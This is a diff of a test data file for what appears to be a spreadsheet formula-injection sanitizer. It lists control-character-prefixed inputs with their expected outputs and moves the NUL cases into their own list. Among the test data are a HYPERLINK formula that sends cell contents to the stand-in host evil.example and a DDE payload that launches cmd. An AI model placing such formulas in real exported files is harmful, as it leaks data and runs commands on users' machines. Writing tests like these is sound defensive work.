@@ -11,7 +11,7 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
 FORMULA_LIKE = [
     (HYPERLINK, HYPERLINK),
     ("\x01" + HYPERLINK, HYPERLINK),
-    ("\x00+1+2", "+1+2"),
+    ("\x02+1+2", "+1+2"),
     ("\x1f-2+3", "-2+3"),
     ("\x08@SUM(1)", "@SUM(1)"),
     ("\x0b\x0c=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
@@ -29,6 +29,9 @@ FORMULA_LIKE = [
     ("－1", "－1"),
     ("＠SUM(1)", "＠SUM(1)"),
 ]
+
+# NUL cannot be stored in PostgreSQL, so only the tests of the writers themselves use it.
+NUL_FIRST = [("\x00+1+2", "+1+2"), ("\x00\x00=1+1", "=1+1")]
 
 # Ordinary texts: kept as they are, without a quote prefix.
 PLAIN = ["锂电池材料 a=b", "A-1 项目", "1+1", "甲\x07乙", "  某某集团"]
